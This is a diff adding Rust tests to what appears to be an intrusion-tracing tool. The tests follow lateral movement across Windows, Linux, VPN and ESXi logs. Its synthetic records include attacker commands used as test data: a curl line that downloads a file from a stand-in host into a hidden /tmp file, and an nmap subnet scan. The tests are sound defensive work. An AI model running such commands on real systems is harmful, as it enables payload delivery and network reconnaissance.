@@ -191,3 +191,97 @@ fn shares_that_an_account_opens_from_there_again_and_again_are_its_own_work() {
     assert!(!opened.before(&share(3, "\\\\*\\Finance$", "10.1.0.21")));
     assert!(!opened.before(&share(3, "\\\\*\\Projects", "10.1.0.99")));
 }
+
+/// On a desktop of his another account's password is used: its desktop on the next system is his, too.
+#[test]
+fn credentials_used_in_his_session_lead_to_the_next_desktop() {
+    let mut records = story("203.0.113.77");
+    records.push(Record {
+        session: "0x5af1".into(),
+        target: "CORP\\ops-17".into(),
+        object: "ADM01".into(),
+        dst: "ADM01".into(),
+        ..event("windows/evtx", Kind::AuthExplicit, 80, "RDS01", "CORP\\hanako", "")
+    });
+    let next = |user: &str, minute| Record {
+        session: format!("0x77{minute}"),
+        object: "10".into(),
+        ..event("windows/evtx", Kind::AuthSuccess, minute, "ADM01", user, "10.0.4.21")
+    };
+    // Who came from there on other days is at his own work.
+    records.insert(0, next("CORP\\taro", -4000));
+    records.push(next("CORP\\ops-17", 81));
+    records.push(next("CORP\\taro", 83));
+    let (found, _) = run(&records);
+    let to: Vec<_> =
+        found.iter().filter(|f| f.rule == "followed-logon" && f.args["host"] == "ADM01").map(|f| f.args["user"].as_str()).collect();
+    assert_eq!(to, ["CORP\\ops-17"]);
+}
+
+/// Plain syslog names the source of an SSH login with the password, not with the session.
+#[test]
+fn an_ssh_login_on_linux_is_followed_to_its_commands() {
+    let mut records = story("203.0.113.77");
+    records.push(Record { src_port: Some(50_022), ..event("linux/syslog", Kind::AuthSuccess, 90, "jump", "ops", "10.9.0.7") });
+    let curl = "curl -sk -o /tmp/.x https://203.0.113.9/e";
+    records.push(Record { command: curl.into(), ..event("linux/auditd", Kind::ProcessStart, 95, "jump", "ops", "") });
+    let (found, _) = run(&records);
+    assert_eq!(of(&found, "followed-ssh").map(|f| f.args["host"].as_str()), Some("jump"));
+    assert!(found.iter().any(|f| f.rule == "followed-command" && f.args["command"] == curl));
+}
+
+/// From a command on a hypervisor back over a jump host to a firewall's VPN, and to what came from the same place days before.
+#[test]
+fn a_stolen_password_at_a_firewall_is_found_from_behind() {
+    let gate = |kind, minute, session: &str, src: &str| Record {
+        session: session.into(),
+        assigned: if kind == Kind::SessionStart { String::new() } else { "10.212.9.1".into() },
+        ..event("network/firewall", kind, minute, "", "fujii", src)
+    };
+    let jump = |minute| Record { src_port: Some(51_022), ..event("linux/syslog", Kind::AuthSuccess, minute, "jump", "ops", "10.212.9.1") };
+    let flow = |minute, length: i64| Record {
+        dst: "10.8.4.15".into(),
+        dst_port: Some(22),
+        src_port: Some(51_022),
+        duration: Some(length * 60_000_000),
+        ..event("network/firewall", Kind::Flow, minute, "fw", "", "10.212.9.1")
+    };
+    let mut records = Vec::new();
+    for (start, end, id) in [(100, 200, "111"), (3000, 3300, "222")] {
+        records.push(gate(Kind::SessionStart, start, id, "198.51.100.66"));
+        records.push(gate(Kind::TunnelStart, start, id, "198.51.100.66"));
+        records.push(jump(start + 5));
+        records.push(flow(end - 10, end - 15 - start));
+        records.push(gate(Kind::TunnelEnd, end, id, "198.51.100.66"));
+    }
+    records.push(Record { command: "nmap -p 22 10.8.5.0/24".into(), ..event("linux/auditd", Kind::ProcessStart, 110, "jump", "ops", "") });
+    records.push(event("vmware/esxi_auth", Kind::SshSession, 3060, "esx01", "root", "10.8.4.15"));
+    records.sort_by_key(Record::micros);
+    let mut compare = Compare::new(&Settings::default());
+    records.iter().for_each(|record| compare.observe(record));
+    compare.settle();
+    let mut compared = compare.finish();
+    let kill = Record { session: "77".into(), ..event("vmware/esxi_shell", Kind::ShellCommand, 3065, "esx01", "root", "") };
+    let mut findings = std::mem::take(&mut compared.findings);
+    findings.push(
+        crate::compare::Draft {
+            rule: "kill",
+            level: Level::High,
+            confidence: 0.8,
+            techniques: &["T1489"],
+            tactics: &["impact"],
+            records: &[&kill],
+            entities: vec![crate::compare::host("esx01"), konseki_model::Entity::new(konseki_model::EntityKind::User, "root", "actor")],
+            args: &[],
+        }
+        .finding(),
+    );
+    let mut follow = Follow::new(&findings, &compared.joins);
+    records.iter().for_each(|record| follow.observe(record));
+    let (found, _) = follow.finish(&mut findings);
+    let logins: Vec<_> = found.iter().filter(|f| f.rule == "followed-vpn-login").map(|f| (f.args["user"].as_str(), f.level)).collect();
+    assert!(logins.contains(&("fujii", Level::High)), "{logins:?}");
+    assert!(found.iter().all(|f| f.rule != "followed-vpn-login" || !f.args.contains_key("host")));
+    let early = found.iter().find(|f| f.rule == "followed-command");
+    assert_eq!(early.map(|f| (f.techniques[0].as_str(), f.level)), Some(("T1046", Level::Medium)));
+}
